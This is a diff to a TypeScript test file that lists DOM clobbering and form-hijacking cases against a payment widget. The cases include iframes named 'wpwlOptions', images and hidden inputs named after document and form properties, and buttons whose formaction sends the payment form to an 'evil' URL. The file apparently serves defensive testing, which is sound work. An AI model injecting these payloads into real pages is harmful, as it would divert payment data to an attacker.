@@ -59,14 +59,20 @@ const attacks: readonly Attack[] = [
     what: 'a frame called wpwlOptions',
     before: `<iframe name="wpwlOptions" srcdoc="<a id=baseUrl href=${evil}></a>"></iframe>`,
   },
-  ...documentProperties.map((name) => ({
-    what: `an image called ${name}`,
-    before: `<img name="${name}">`,
-  })),
-  ...hiddenProperties.map((name) => ({
-    what: `an input called ${name} in the form`,
-    inside: `<input type="hidden" name="${name}" value="${evil}">`,
-  })),
+  {
+    what: 'a frame of another site called wpwlOptions',
+    before: `<iframe name="wpwlOptions" src="data:text/html,elsewhere"></iframe>`,
+  },
+  {
+    what: 'images called like properties of the document',
+    before: documentProperties.map((name) => `<img name="${name}">`).join(''),
+  },
+  {
+    what: 'inputs called like properties of the form',
+    inside: hiddenProperties
+      .map((name) => `<input type="hidden" name="${name}" value="${evil}">`)
+      .join(''),
+  },
   {
     what: 'a button that submits the form elsewhere',
     inside: `<button formaction="${evil}">Pay now</button><input type="image" formaction="${evil}">`,
